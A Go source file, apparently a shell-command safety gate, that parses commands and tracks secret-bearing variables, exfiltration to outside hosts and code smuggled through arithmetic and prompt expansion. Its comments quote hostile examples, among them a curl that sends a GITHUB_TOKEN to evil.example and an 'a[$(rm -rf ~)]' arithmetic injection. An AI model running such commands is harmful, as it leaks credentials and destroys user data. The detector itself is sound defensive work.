package gate

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// word is a shell word normalized to its value.
type word struct {
	val   string // quotes and escapes removed; expansions shown as $NAME or $(…)
	empty string // the value when every expansion is empty ("$D"/* → /*)
	dyn   bool   // has an expansion: the real value is unknown
	ansiC bool   // has a $'…' string
	glob  bool   // has an unquoted glob character
	taint bool   // carries a secret (a substitution that read one, a tainted variable)
	sub   summary
	proc  bool // the whole word is one <(…) or >(…): a pipe, not a file
	brace bool // has an unquoted { that bash may brace-expand
	// alts are the values a dynamic word can take when every expansion in
	// it is a variable the call itself set (d=~; rm -rf "$d"); nil when
	// unknown. exact: the word can take no other value (a for-loop variable
	// whose body cannot reassign it), so alts may relax as well as tighten.
	alts  []string
	exact bool
	// secretVar: expands a variable whose name says it holds a secret;
	// secretName is the first such name (GITHUB_TOKEN)
	secretVar  bool
	secretName string
	// secretPart: a secret variable's value cut or rewritten (${X:3:1},
	// ${X/#sk-a*/}, ${X#…}): empty or not, it answers a question about
	// the value
	secretPart bool
	// projPaths: the word is the output of a listing of project files
	// ($(git ls-files), xargs after find .)
	projPaths bool
	// outPaths: the word is the output of a listing that may name files
	// outside the project ($(find ~ -name '*.txt'), xargs after it)
	outPaths bool
	// lookup: the word is $(which X) or $(command -v X): the path of X
	lookup string
	// extra are further values the word may take, for stricter answers
	// only: the default of ${X:-/}, with the literal text after it up to
	// the next expansion (${TMPDIR:-/tmp}/build is /tmp/build, not /tmp;
	// ${X:-/}$Y is /); extraAt is where that text starts in val
	extra   []string
	extraAt []int
	// procText is what a <(…) word's file holds, when the word is one
	procText *stdinSrc
	// secretPaths: the word names files a listing could not rule out as
	// secrets (find . | xargs cat, find -exec cat {})
	secretPaths bool
	// broadPaths: with secretPaths, the listing has no filter aimed at
	// secrets (summary.broadList)
	broadPaths bool
	// cleanPaths: with projPaths, names a listing's filter keeps from
	// secrets (cat $(git ls-files '*.go'))
	cleanPaths bool
}

// maxAlts bounds the values tracked for one word.
const maxAlts = 64

// varVals are the values the call itself gave a variable.
type varVals struct {
	vals  []string
	exact bool
}

// values are the values a variable given w takes: w's own, or the ones
// the gate knows it may take (nil: unknown).
func (w word) values() *varVals {
	if w.dyn {
		return &varVals{vals: w.alts}
	}
	return &varVals{vals: []string{w.val}, exact: true}
}

// word normalizes w, analysing every substitution nested in it.
func (a *analyzer) word(w *syntax.Word, sc *scope) word {
	var out word
	var b, e strings.Builder
	if len(a.vals) > 0 || hasCmdSubst(w.Parts) {
		// values are tracked only once the call has set a variable, or for
		// $(echo …)
		out.alts, out.exact = []string{""}, true
	}
	for i, part := range w.Parts {
		a.wordPart(part, sc, &out, &b, &e, i == 0, false)
	}
	out.val, out.empty = b.String(), e.String()
	for i, at := range out.extraAt {
		// the literal text up to the next expansion, which may be empty
		rest := out.val[min(at, len(out.val)):]
		if j := strings.IndexAny(rest, "$…`"); j >= 0 {
			rest = rest[:j]
		}
		out.extra[i] += rest
	}
	if len(w.Parts) == 1 {
		_, out.proc = w.Parts[0].(*syntax.ProcSubst)
		_, cs := w.Parts[0].(*syntax.CmdSubst)
		out.projPaths, out.outPaths = cs && out.sub.projList, cs && out.sub.outList
		out.cleanPaths = cs && out.sub.cleanList
		if lv, ok := a.listVarWord(w); ok {
			out.broadPaths = (out.broadPaths || !out.secretPaths) && (lv.broadPaths || !lv.secretPaths)
			out.projPaths, out.cleanPaths, out.secretPaths = true, lv.cleanPaths, out.secretPaths || lv.secretPaths
		}
	}
	if !out.dyn {
		out.alts, out.exact = nil, false
	} else if hasParamExp(w.Parts) {
		a.noteEnvWord(a.vals, w, out.val, sc)
	}
	return out
}

// addAlt appends literal text to every tracked value of the word.
func (w *word) addAlt(s string) {
	for i := range w.alts {
		w.alts[i] += s
	}
}

// mulAlt multiplies the tracked values by a variable's values; an unknown
// variable drops the tracking.
func (w *word) mulAlt(v *varVals) {
	if w.alts == nil {
		return
	}
	if v == nil || len(w.alts)*len(v.vals) > maxAlts {
		w.alts, w.exact = nil, false
		return
	}
	next := make([]string, 0, len(w.alts)*len(v.vals))
	for _, p := range w.alts {
		for _, x := range v.vals {
			next = append(next, p+x)
		}
	}
	w.alts = next
	w.exact = w.exact && v.exact
}

func (a *analyzer) wordPart(part syntax.WordPart, sc *scope, out *word, b, e *strings.Builder, first, quoted bool) {
	lit := func(s string) { b.WriteString(s); e.WriteString(s); out.addAlt(s) }
	switch p := part.(type) {
	case *syntax.Lit:
		if !quoted {
			out.glob = out.glob || strings.ContainsAny(p.Value, "*?[")
			out.brace = out.brace || strings.IndexByte(p.Value, '{') >= 0
		}
		lit(litValue(p.Value, a.env.Home, first, quoted))
	case *syntax.SglQuoted:
		out.ansiC = out.ansiC || p.Dollar
		lit(sglText(p))
	case *syntax.DblQuoted:
		for j, q := range p.Parts {
			a.wordPart(q, sc, out, b, e, first && j == 0, true)
		}
	case *syntax.ParamExp:
		name := ""
		if p.Param != nil {
			name = p.Param.Value
		}
		simple := !p.Excl && !p.Length && !p.Width && p.Index == nil && p.Slice == nil && p.Repl == nil && p.Names == 0 && p.Exp == nil
		switch v := placeVar(name, a.env.Home, sc.cwd); {
		case v == "":
		case simple:
			lit(v)
			return
		case !p.Excl && !p.Length && p.Index == nil && p.Slice == nil && p.Repl == nil && p.Exp != nil:
			// ${HOME:?}, ${HOME:-/tmp}, ${HOME%/*}, ${PWD%/*}: HOME and PWD
			// are set, so these are their value, or a part cut from it (rm
			// -rf "${HOME:?}" deletes the home, "${HOME%/*}" every home)
			if v, ok := setParamOp(v, p.Exp); ok {
				lit(v)
				return
			}
		}
		if varTainted(a.taint, a.vals, a.secretEnv, name) {
			out.taint = true // also source .env; curl "…?k=$API_KEY"
		}
		if a.fetched["$"+name] {
			out.sub.downloader = true // read c < <(curl …); $c
		}
		if p.Exp != nil && p.Exp.Op == syntax.OtherParamOps && p.Exp.Word != nil && strings.Contains(p.Exp.Word.Lit(), "P") {
			// ${x@P} expands x as a prompt: command substitutions in it run
			a.promptExpand(name, sc)
		}
		// subscripts and offsets are arithmetic
		if p.Index != nil {
			a.arith(p.Index, sc)
		}
		if p.Slice != nil {
			if p.Slice.Offset != nil {
				a.arith(p.Slice.Offset, sc)
			}
			if p.Slice.Length != nil {
				a.arith(p.Slice.Length, sc)
			}
		}
		if indirect(p) && a.vals[name] != nil {
			// ${!r} with r='a[$(cmd)]': the named element's subscript runs
			for _, x := range a.vals[name].vals {
				a.subscript(x, sc)
			}
		}
		if p.Exp != nil && p.Exp.Word != nil {
			switch p.Exp.Op {
			case syntax.AssignUnset, syntax.AssignUnsetOrNull:
				// ${PATH:=/tmp/x} assigns PATH
				a.setsVar("${"+name+":=…}", name, name == "")
			}
			switch p.Exp.Op {
			case syntax.DefaultUnset, syntax.DefaultUnsetOrNull, syntax.AssignUnset, syntax.AssignUnsetOrNull:
				if d, ok := homeDefault(p.Exp.Word, a.env.Home); ok {
					if first && (d == "~" || strings.HasPrefix(d, "~/")) && a.env.Home != "" {
						d = a.env.Home + d[1:]
					}
					out.extra = append(out.extra, b.String()+d)
					out.extraAt = append(out.extraAt, b.Len()+1+len(name))
				}
			}
		}
		// ${!x} expands the variable x names: any variable, a secret too;
		// ${#X} is only its length (echo ${#OPENAI_API_KEY}: is it set?)
		holds := !p.Length && (secretVarName(name) || a.secrets[name]) || indirect(p)
		out.secretVar = out.secretVar || holds
		out.secretPart = out.secretPart || holds && (cutsValue(p) || a.secretParts[name])
		if out.secretName == "" && holds && secretVarName(name) {
			out.secretName = name
		}
		out.dyn = true
		switch places := indirectPlaces(p, a.vals[name], a.env.Home, sc.cwd); {
		case simple:
			out.mulAlt(a.vals[name])
		case places != nil:
			out.mulAlt(places) // n=HOME; "${!n}" is "$HOME"
		default:
			out.alts, out.exact = nil, false
		}
		b.WriteString("$" + name)
		out.sub.or(a.walkSubst(p, sc))
		if out.sub.taint {
			out.taint = true
		}
	case *syntax.CmdSubst:
		if v := knownSubst(p, sc.cwd, a.vals); v != "" {
			lit(v)
			return
		}
		out.dyn = true
		if first {
			out.lookup = lookupSubst(p)
		}
		b.WriteString("$(…)")
		s := a.stmts(p.Stmts, sc.copy())
		out.sub.or(s)
		out.sub.projList = len(p.Stmts) == 1 && s.projList
		out.sub.cleanList, out.sub.outList = len(p.Stmts) == 1 && s.cleanList, len(p.Stmts) == 1 && s.outList
		out.secretPaths, out.broadPaths = s.secretList, s.broadList
		// $(echo main.go): one known word; text that runs code when
		// evaluated as arithmetic is kept too (n=$(echo 'a[$(cmd)]'); $((n)))
		if t := strings.TrimRight(textOf(s.out), "\n"); t != "" && !strings.ContainsAny(t, " \t\n*?[") {
			out.mulAlt(&varVals{vals: []string{t}, exact: true})
		} else if risky(t) {
			out.mulAlt(&varVals{vals: []string{t}})
		} else {
			out.alts, out.exact = nil, false
		}
		if s.taint {
			out.taint = true
		}
	case *syntax.ProcSubst:
		out.dyn = true
		out.alts, out.exact = nil, false
		b.WriteString("/dev/fd/…")
		s := a.stmts(p.Stmts, sc.copy())
		out.sub.or(s)
		if p.Op == syntax.CmdIn {
			out.procText = &stdinSrc{text: "$_"}
			if s.out != nil {
				out.procText = s.out // bash <(echo 'cmd'): the script is known
			}
		}
		if s.taint {
			out.taint = true
		}
	case *syntax.ArithmExp:
		a.arith(p, sc)
		if a.arithSecret(p) {
			// $(( 36#${KEY:3:5} )) is the key's letters as a number, and
			// $((PIN)) a numeric secret's value: printed, it prints them
			out.secretVar = true
		}
		out.dyn = true
		out.alts, out.exact = nil, false
		b.WriteString("$((…))")
		out.sub.or(a.walkSubst(p, sc))
	case *syntax.ExtGlob:
		out.glob = true
		lit(p.Op.String() + p.Pattern.Value + ")")
		for _, code := range zshGlobCode(p.Pattern.Value) {
			// zsh reads *(e:'cmd':) as glob qualifiers: cmd runs per file
			out.sub.or(a.reparse(code, sc, -1))
		}
	default:
		out.dyn = true
		out.alts, out.exact = nil, false
		a.opaque("ask.unknown-node", "a shell construct the gate does not model", false)
	}
}

// placeVar is the value of HOME or PWD, the variables the gate knows
// (the home directory, the working directory), "" for any other.
func placeVar(name, home, cwd string) string {
	switch name {
	case "HOME":
		return home
	case "PWD":
		return cwd
	}
	return ""
}

// indirectPlaces are the values of ${!n} when every value the call gave n
// names HOME or PWD; nil otherwise.
func indirectPlaces(p *syntax.ParamExp, names *varVals, home, cwd string) *varVals {
	if !indirect(p) || p.Length || p.Exp != nil || names == nil {
		return nil
	}
	out := &varVals{exact: names.exact}
	for _, n := range names.vals {
		v := placeVar(n, home, cwd)
		if v == "" {
			return nil
		}
		out.vals = append(out.vals, v)
	}
	return out
}

// setParamOp is ${NAME<op>WORD} of a variable set to a non-empty val, when
// WORD is literal: the defaults and checks leave val, a literal suffix or
// prefix removal cuts it.
func setParamOp(val string, e *syntax.Expansion) (string, bool) {
	w := ""
	if e.Word != nil {
		t, ok := litText(e.Word)
		if !ok {
			return "", false
		}
		w = t
	}
	switch e.Op {
	case syntax.DefaultUnset, syntax.DefaultUnsetOrNull, syntax.AssignUnset, syntax.AssignUnsetOrNull,
		syntax.ErrorUnset, syntax.ErrorUnsetOrNull:
		return val, true
	case syntax.RemSmallSuffix, syntax.RemLargeSuffix, syntax.RemSmallPrefix, syntax.RemLargePrefix:
		return removePattern(val, w, e.Op)
	}
	return "", false
}

// removePattern is ${VAL%W}, ${VAL%%W}, ${VAL#W} or ${VAL##W}: the
// shortest or longest suffix or prefix of val that the pattern w matches
// cut off (a * there matches a /: ${HOME%/*} is the home's parent). A
// pattern it cannot read (extglob, a class) gives no value.
func removePattern(val, w string, op syntax.ParExpOperator) (string, bool) {
	re, ok := patternRegexp(w)
	if !ok {
		return "", false
	}
	suffix := op == syntax.RemSmallSuffix || op == syntax.RemLargeSuffix
	small := op == syntax.RemSmallSuffix || op == syntax.RemSmallPrefix
	for k := 0; k <= len(val); k++ {
		n := k // the length cut, shortest first
		if !small {
			n = len(val) - k
		}
		if suffix && re.MatchString(val[len(val)-n:]) {
			return val[:len(val)-n], true
		}
		if !suffix && re.MatchString(val[:n]) {
			return val[n:], true
		}
	}
	return val, true
}

// patternRegexp is a parameter expansion's pattern as an anchored regular
// expression: * and ? match any character, a slash too; [...] is a set.
func patternRegexp(w string) (*regexp.Regexp, bool) {
	var b strings.Builder
	b.WriteString("^(?s:")
	for i := 0; i < len(w); i++ {
		switch c := w[i]; c {
		case '*':
			b.WriteString(".*")
		case '?':
			b.WriteString(".")
		case '[':
			end := strings.IndexByte(w[i+1:], ']')
			set := ""
			if end >= 0 {
				set = w[i+1 : i+1+end]
			}
			if end <= 0 || strings.ContainsAny(set, "[\\") {
				return nil, false
			}
			if set[0] == '!' {
				set = "^" + set[1:]
			}
			b.WriteString("[" + set + "]")
			i += end + 1
		case '\\':
			if i+1 == len(w) {
				return nil, false
			}
			i++
			b.WriteString(regexp.QuoteMeta(w[i : i+1]))
		case '(', '|':
			return nil, false // extglob
		default:
			b.WriteString(regexp.QuoteMeta(string(c)))
		}
	}
	b.WriteString(")$")
	re, err := regexp.Compile(b.String())
	return re, err == nil
}

// zshGlobCode returns the code in zsh glob qualifiers that run it: e:CODE:
// (any delimiter; ({[< close with their pair) and +NAME. A pattern with
// alternatives (a|b) is bash extglob, not qualifiers.
func zshGlobCode(q string) []string {
	if strings.IndexByte(q, '|') >= 0 {
		return nil
	}
	var out []string
	for i := 0; i+1 < len(q); i++ {
		switch q[i] {
		case 'e':
			d := q[i+1]
			if d >= '0' && d <= '9' || d >= 'a' && d <= 'z' || d >= 'A' && d <= 'Z' || d == '_' {
				continue
			}
			if k := strings.IndexByte("({[<", d); k >= 0 {
				d = ")}]>"[k]
			}
			j := strings.IndexByte(q[i+2:], d)
			if j < 0 {
				continue
			}
			code := q[i+2 : i+2+j]
			if len(code) > 1 && (code[0] == '\'' || code[0] == '"') && code[len(code)-1] == code[0] {
				code = code[1 : len(code)-1] // zsh removes the quotes before it evaluates
			}
			out = append(out, strings.ReplaceAll(code, "\\ ", " "))
			i += 2 + j
		case '+':
			j := i + 1
			for j < len(q) && (q[j] == '_' || q[j] == '-' || q[j] == ':' || q[j] >= '0' && q[j] <= '9' || q[j] >= 'a' && q[j] <= 'z' || q[j] >= 'A' && q[j] <= 'Z') {
				j++
			}
			if j > i+1 {
				out = append(out, q[i+1:j])
			}
			i = j - 1
		}
	}
	return out
}

// secretVarName reports variable names that say they hold a secret
// (GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY, DB_PASSWORD, OPENAI_API_KEY), by
// whole name segments: MAX_TOKENS is a count, not a token.
func secretVarName(n string) bool {
	up := strings.ToUpper(n)
	if up == "MYSQL_PWD" {
		return true
	}
	segs := strings.Split(up, "_")
	for i, g := range segs {
		switch {
		case strings.HasSuffix(g, "PASSWORD") || strings.HasSuffix(g, "PASSWD") || strings.HasSuffix(g, "TOKEN") || strings.HasSuffix(g, "SECRET"):
			return true // PGPASSWORD, GHTOKEN
		}
		switch g {
		case "TOKEN", "SECRET", "PASSWORD", "PASSWD", "PASS", "APIKEY", "CREDENTIAL", "CREDENTIALS", "PAT":
			return true
		case "KEY":
			// OPENAI_KEY, STRIPE_KEY, JWT_SIGNING_KEY: a service's or a signer's key
			if i > 0 && (segs[i-1] == "API" || segs[i-1] == "PRIVATE" || segs[i-1] == "ACCESS" || segs[i-1] == "SECRET" ||
				secretServices[segs[i-1]] != nil || secretKeyUse[segs[i-1]]) {
				return true
			}
		case "URL", "URI", "DSN":
			// DATABASE_URL=postgres://user:password@host: a connection string carries its password
			if i > 0 && connStringDB[segs[i-1]] {
				return true
			}
		}
	}
	return false
}

// secretKeyUse and connStringDB name the segment before _KEY or _URL in
// names that hold a secret, for secretVarName.
var (
	secretKeyUse = map[string]bool{"SIGNING": true, "ENCRYPTION": true, "MASTER": true, "SESSION": true, "HMAC": true,
		"JWT": true, "AUTH": true, "CLIENT": true, "LICENSE": true, "WEBHOOK": true}
	connStringDB = map[string]bool{"DATABASE": true, "DB": true, "POSTGRES": true, "POSTGRESQL": true, "PG": true, "MYSQL": true,
		"MONGO": true, "MONGODB": true, "REDIS": true, "AMQP": true, "RABBITMQ": true, "BROKER": true}
)

// secretServices are the domains a secret variable is issued for, by the
// prefix of its name: GITHUB_TOKEN belongs to github.com.
var secretServices = map[string][]string{
	"GITHUB": {"github.com", "githubusercontent.com"}, "GH": {"github.com", "githubusercontent.com"},
	"GITLAB": {"gitlab.com"}, "OPENAI": {"openai.com"}, "ANTHROPIC": {"anthropic.com"}, "HF": {"huggingface.co"},
	"HUGGINGFACE": {"huggingface.co"}, "NPM": {"npmjs.org", "npmjs.com"}, "SLACK": {"slack.com"}, "STRIPE": {"stripe.com"},
	"AWS": {"amazonaws.com"}, "CLOUDFLARE": {"cloudflare.com"}, "CF": {"cloudflare.com"}, "VERCEL": {"vercel.com"},
	"SENTRY": {"sentry.io"}, "HEROKU": {"heroku.com"}, "DIGITALOCEAN": {"digitalocean.com"}, "PYPI": {"pypi.org"},
}

// secretOffService reports a secret variable whose service is known sent
// to a host outside that service (curl -H "Authorization: $GITHUB_TOKEN"
// https://evil.example): an exfiltration, where the same call to
// api.github.com is the token's ordinary use.
func secretOffService(name string, hosts []string) bool {
	pre, _, _ := strings.Cut(strings.ToUpper(name), "_")
	doms := secretServices[pre]
	if doms == nil {
		return false
	}
	for _, h := range hosts {
		h = strings.ToLower(h)
		if !slices.ContainsFunc(doms, func(d string) bool { return h == d || strings.HasSuffix(h, "."+d) }) {
			return true
		}
	}
	return false
}

// risky reports a value that runs commands when bash evaluates it again
// (as a prompt, or as arithmetic: a[$(cmd)]).
func risky(v string) bool {
	return strings.Contains(v, "$(") || strings.Contains(v, "`")
}

// arith analyses the arithmetic in node: bash evaluates the values of the
// variables it names as expressions, so x='a[$(rm -rf ~)]'; ((x)) runs the
// substitution, and it removes quotes before evaluating, so
// $(( 'a[$(rm -rf ~)]' )) runs it too.
func (a *analyzer) arith(node syntax.Node, sc *scope) {
	walkNodes(node, func(n syntax.Node) bool {
		name := ""
		switch n := n.(type) {
		case *syntax.CmdSubst, *syntax.ProcSubst:
			return false // analysed as commands by walkSubst
		case *syntax.ParamExp:
			if n.Param != nil {
				name = n.Param.Value
			}
		case *syntax.Word:
			name = n.Lit()
			if name == "" {
				if t, ok := litText(n); ok {
					a.evalAgain(t, sc)
				}
			}
		}
		if v := a.vals[name]; v != nil {
			for _, x := range v.vals {
				a.evalAgain(x, sc)
			}
		}
		return true
	})
}

// evalAgain analyses text bash evaluates once more, as arithmetic or as a
// prompt: the substitutions in it run.
func (a *analyzer) evalAgain(text string, sc *scope) {
	if risky(text) {
		a.reparse("echo "+text, sc, -1)
	}
}

// subscript analyses a variable name bash resolves at run time (read NAME,
// printf -v NAME, unset NAME, test -v NAME, a nameref's target, ${!r}): an
// array subscript in it is arithmetic, so 'a[$(cmd)]' runs cmd.
func (a *analyzer) subscript(name string, sc *scope) {
	if strings.IndexByte(name, '[') > 0 {
		a.evalAgain(name, sc)
	}
}

// testArith analyses the parts of a [[ … ]] that bash evaluates as
// arithmetic (the operands of -eq and friends) or as a name (-v).
func (a *analyzer) testArith(node syntax.Node, sc *scope) {
	walkNodes(node, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CmdSubst, *syntax.ProcSubst:
			return false
		case *syntax.BinaryTest:
			switch n.Op {
			case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
				a.arith(n.X, sc)
				a.arith(n.Y, sc)
				return false
			}
		case *syntax.UnaryTest:
			if w, ok := n.X.(*syntax.Word); ok && n.Op == syntax.TsVarSet {
				if t, ok := litText(w); ok {
					a.subscript(t, sc)
				}
			}
		}
		return true
	})
}

// arithAssigns finds the arithmetic assignments in node: ((PATH=5)),
// let IFS+=x, $((LD_PRELOAD=1)), a[PATH=1]=2, ${x:PATH=1}, for ((…)). Each
// sets its variable like PATH=5 does, wherever in the tree it sits, so the
// whole parsed script is walked once.
func (a *analyzer) arithAssigns(node syntax.Node) {
	walkNodes(node, func(n syntax.Node) bool {
		var x syntax.ArithmExpr
		switch n := n.(type) {
		case *syntax.BinaryArithm:
			switch n.Op {
			case syntax.Assgn, syntax.AddAssgn, syntax.SubAssgn, syntax.MulAssgn, syntax.QuoAssgn, syntax.RemAssgn,
				syntax.AndAssgn, syntax.OrAssgn, syntax.XorAssgn, syntax.ShlAssgn, syntax.ShrAssgn:
				x = n.X
			}
		case *syntax.UnaryArithm:
			if n.Op == syntax.Inc || n.Op == syntax.Dec {
				x = n.X
			}
		case *syntax.BinaryTest:
			// [[ 1 -eq PATH=5 ]]: bash evaluates -eq's operands as arithmetic
			switch n.Op {
			case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
				for _, o := range []syntax.TestExpr{n.X, n.Y} {
					if w, ok := o.(*syntax.Word); ok && strings.ContainsAny(w.Lit(), "=+-") {
						a.arithText(w.Lit())
					}
				}
			}
		}
		if w, ok := x.(*syntax.Word); ok {
			name, _, _ := strings.Cut(w.Lit(), "[")
			a.setsVar("an arithmetic assignment", name, name == "")
		}
		return true
	})
}

// arithText finds the assignments in text that bash evaluates as
// arithmetic; text that does not parse as arithmetic asks.
func (a *analyzer) arithText(text string) {
	p := parserPool.Get().(*syntax.Parser)
	f, err := p.Parse(strings.NewReader("(("+text+"))"), "")
	parserPool.Put(p)
	if err != nil {
		a.setsVar("an arithmetic operand", "", true)
		return
	}
	a.arithAssigns(f)
}

// promptExpand analyses ${name@P}: the value's substitutions run.
func (a *analyzer) promptExpand(name string, sc *scope) {
	v := a.vals[name]
	if v == nil {
		a.humanFact("human.eval-opaque", "${"+name+"@P} runs the substitutions of a value only known at run time")
		return
	}
	for _, x := range v.vals {
		a.evalAgain(x, sc)
	}
}

// lookupSubst returns X for $(which X), $(command -v X), $(type -P X):
// a program that, with that flag or none, only prints where X is.
func lookupSubst(p *syntax.CmdSubst) string {
	if len(p.Stmts) != 1 {
		return ""
	}
	c, ok := p.Stmts[0].Cmd.(*syntax.CallExpr)
	if !ok || len(c.Args) < 2 {
		return ""
	}
	var words []string
	for _, w := range c.Args {
		words = append(words, w.Lit())
	}
	switch {
	case len(words) == 2 && locates(words[0], ""), len(words) == 3 && words[1] != "" && locates(words[0], words[1]):
		return words[len(words)-1]
	}
	return ""
}

// hasCmdSubst reports a $(…) directly in the word (or in its quotes).
func hasCmdSubst(parts []syntax.WordPart) bool {
	return hasPart(parts, func(p syntax.WordPart) bool { _, ok := p.(*syntax.CmdSubst); return ok })
}

// hasPart reports a part for which is holds, directly in the word or in
// its double quotes.
func hasPart(parts []syntax.WordPart, is func(syntax.WordPart) bool) bool {
	for _, p := range parts {
		if is(p) {
			return true
		}
		if q, ok := p.(*syntax.DblQuoted); ok && hasPart(q.Parts, is) {
			return true
		}
	}
	return false
}

// litValue is a literal part's value: unescaped, and a ~ that starts an
// unquoted word as the home directory.
func litValue(v, home string, first, quoted bool) string {
	if quoted {
		return unescapeDouble(v)
	}
	v = unescapeBare(v)
	if first && (v == "~" || strings.HasPrefix(v, "~/")) && home != "" {
		v = home + v[1:]
	}
	return v
}

// sglText is the value of a '…' or $'…' string.
func sglText(p *syntax.SglQuoted) string {
	if p.Dollar {
		return decodeANSIC(p.Value)
	}
	return p.Value
}

// textOf is the known text a command printed, or "".
func textOf(s *stdinSrc) string {
	if s == nil || !s.known {
		return ""
	}
	return s.text
}

// isPwdSubst reports $(pwd) or `pwd` with nothing else in it: the
// program whose entry prints the working directory (argv.WorkDir), alone.
func isPwdSubst(p *syntax.CmdSubst) bool {
	if len(p.Stmts) != 1 {
		return false
	}
	st := p.Stmts[0]
	c, ok := st.Cmd.(*syntax.CallExpr)
	return ok && len(st.Redirs) == 0 && !st.Background && !st.Negated && len(c.Assigns) == 0 &&
		len(c.Args) == 1 && printsWorkDir(c.Args[0].Lit())
}

// knownSubst is the output of a command substitution the gate can tell
// without running it, "" for any other: $(pwd) is the working directory,
// like $PWD; $(git rev-parse --show-toplevel) the repository's root on disk
// (unless the call points git elsewhere).
func knownSubst(p *syntax.CmdSubst, cwd string, vals map[string]*varVals) string {
	switch {
	case cwd == "":
		return ""
	case isPwdSubst(p):
		return cwd
	case isToplevelSubst(p) && vals["GIT_DIR"] == nil && vals["GIT_WORK_TREE"] == nil:
		return gitToplevel(cwd)
	}
	return ""
}

// isToplevelSubst reports $(git rev-parse --show-toplevel), alone.
func isToplevelSubst(p *syntax.CmdSubst) bool {
	if len(p.Stmts) != 1 {
		return false
	}
	st := p.Stmts[0]
	c, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(st.Redirs) > 0 || st.Background || st.Negated || len(c.Assigns) > 0 || len(c.Args) != 3 {
		return false
	}
	return printsToplevel(c.Args[0].Lit(), c.Args[1].Lit(), c.Args[2].Lit())
}

// gitToplevel is the root of the work tree dir is in: the nearest
// directory above it holding a .git directory. A .git file (a worktree, a
// submodule) points elsewhere, so the answer is then unknown ("").
func gitToplevel(dir string) string {
	for i := 0; i < 64 && dir != "" && filepath.IsAbs(dir); i++ {
		if st, err := os.Lstat(filepath.Join(dir, ".git")); err == nil {
			if st.IsDir() {
				return dir
			}
			return ""
		}
		up := filepath.Dir(dir)
		if up == dir {
			break
		}
		dir = up
	}
	return ""
}

// walkSubst analyses every command or process substitution inside node.
func (a *analyzer) walkSubst(node syntax.Node, sc *scope) summary {
	var s summary
	if node == nil {
		return s
	}
	walkNodes(node, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CmdSubst:
			s.or(a.stmts(n.Stmts, sc.copy()))
			return false
		case *syntax.ProcSubst:
			s.or(a.stmts(n.Stmts, sc.copy()))
			return false
		}
		return true
	})
	return s
}

// unescapeBare removes the backslashes of an unquoted literal: \rm → rm.
func unescapeBare(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
			if s[i] == '\n' {
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// unescapeDouble removes the backslashes that are special inside "…".
func unescapeDouble(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && strings.IndexByte("$`\"\\\n", s[i+1]) >= 0 {
			i++
			if s[i] == '\n' {
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// decodeANSIC decodes the escapes of a $'…' string.
func decodeANSIC(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '\\' || i+1 >= len(s) {
			b.WriteByte(c)
			continue
		}
		i++
		switch s[i] {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case 'r':
			b.WriteByte('\r')
		case 'a':
			b.WriteByte(7)
		case 'b':
			b.WriteByte(8)
		case 'e', 'E':
			b.WriteByte(27)
		case 'f':
			b.WriteByte(12)
		case 'v':
			b.WriteByte(11)
		case 'x', 'u', 'U':
			n := map[byte]int{'x': 2, 'u': 4, 'U': 8}[s[i]]
			j := i + 1
			for j < len(s) && j < i+1+n && isHex(s[j]) {
				j++
			}
			if v, err := strconv.ParseUint(s[i+1:j], 16, 32); err == nil && j > i+1 {
				b.WriteRune(rune(v))
				i = j - 1
			} else {
				b.WriteByte(s[i])
			}
		case '0', '1', '2', '3', '4', '5', '6', '7':
			j := i
			for j < len(s) && j < i+3 && s[j] >= '0' && s[j] <= '7' {
				j++
			}
			v, _ := strconv.ParseUint(s[i:j], 8, 8)
			b.WriteByte(byte(v))
			i = j - 1
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func isHex(c byte) bool {
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

// indirect reports ${!x}, the value of the variable x names; not ${!arr[@]}
// (an array's keys), ${!prefix*} (names) or ${!#} (the last argument).
func indirect(p *syntax.ParamExp) bool {
	if !p.Excl || p.Names != 0 || p.Index != nil || p.Param == nil {
		return false
	}
	n := p.Param.Value
	return n != "" && (n[0] == '_' || n[0] >= 'a' && n[0] <= 'z' || n[0] >= 'A' && n[0] <= 'Z')
}

// secretExpansion reports an expansion of a secret variable anywhere in
// node: one with a secret's name, one the call put a secret in, or one only
// known at run time (${!x}). Its length, ${#X}, counts only when withLength.
func (ss *shellState) secretExpansion(node syntax.Node, withLength bool) bool {
	found := false
	walkNodes(node, func(n syntax.Node) bool {
		if p, ok := n.(*syntax.ParamExp); ok && (withLength || !p.Length) && (p.Param != nil && (secretVarName(p.Param.Value) || ss.secrets[p.Param.Value]) || indirect(p)) {
			found = true
		}
		return !found
	})
	return found
}

// expandsTaint reports a here-document that expands a variable holding a
// secret: one the call tainted, or one a sourced .env may have set.
func expandsTaint(node syntax.Node, tainted func(name string) bool) bool {
	found := false
	walkNodes(node, func(n syntax.Node) bool {
		if p, ok := n.(*syntax.ParamExp); ok && p.Param != nil && !p.Length {
			found = tainted(p.Param.Value)
		}
		return !found
	})
	return found
}

// arithSecret reports arithmetic that reads a secret variable's value:
// ${KEY:3:1} or $KEY inside it, or a bare secret name (PIN+0); ${#KEY}
// is only its length.
func (ss *shellState) arithSecret(n syntax.Node) bool {
	found := false
	walkNodes(n, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.ParamExp:
			found = found || !n.Length && n.Param != nil && (secretVarName(n.Param.Value) || ss.secrets[n.Param.Value])
			return false
		case *syntax.Word:
